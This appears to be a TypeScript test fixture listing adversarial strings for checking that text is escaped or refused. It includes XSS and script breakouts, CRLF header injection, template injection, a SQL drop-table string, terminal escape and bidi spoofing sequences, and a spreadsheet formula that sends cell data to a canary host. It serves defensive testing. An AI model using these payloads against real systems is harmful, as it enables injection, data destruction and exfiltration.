/**
 * Texts without tags that break out of quotes, lines, tables, templates and terminals: they must be shown unchanged
 * or refused.
 */
export const ODD_TEXTS: readonly string[] = [
  '</script><!--<script>',
  '"}]}</script>{"a":"',
  '\\"};executed();//',
  '\u2028executed()\u2029',
  'a\r\nBcc: eve@example.com\r\n\r\n<script>executed()</script>',
  'a%0d%0aSet-Cookie:%20executed=1',
  '%3Cscript%3Eexecuted()%3C/script%3E',
  '\\u003cscript\\u003eexecuted()\\u003c/script\\u003e',
  '\\3c script\\3e executed()',
  '</text></svg><script>executed()</script>',
  ']]><script>executed()</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody may write
  '{{7*7}} #{7*7} <%= 7*7 %> ${{7*7}} [[executed()]] {%print(7*7)%}',
  '=HYPERLINK("https://canary.example/?"&A1,"x")',
  '[x](javascript:executed()) ![x](https://canary.example/x.png) <https://canary.example>',
  '@import url(https://canary.example/x.css);',
  'expression(executed()) url(javascript:executed())',
  '\u001b[2J\u001b]0;executed\u0007\u001b]8;;https://canary.example\u0007x\u001b]8;;\u0007',
  '\u009b2J\u0090q\u009c\u0008\u0008\u0008\u007f',
  '\u202eevil\u202c \u2066evil\u2069 \u200f\u200b\u2060\ufeff',
  '/JS (executed) /OpenAction << /S /JavaScript >> endobj) Tj ET',
  'null undefined NaN [object Object] __proto__ constructor',
  "'; drop table tickets; --",
  "$& $` $' $1 %s %n %d",
  'x\u0301\u0302\u0303\u0304\u0305'.repeat(8),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{10ffff}\uffff\ufffd',
  'شبكة <b dir=rtl onmouseover=executed()> \u05d0\u05d1',
  'W'.repeat(290),
]
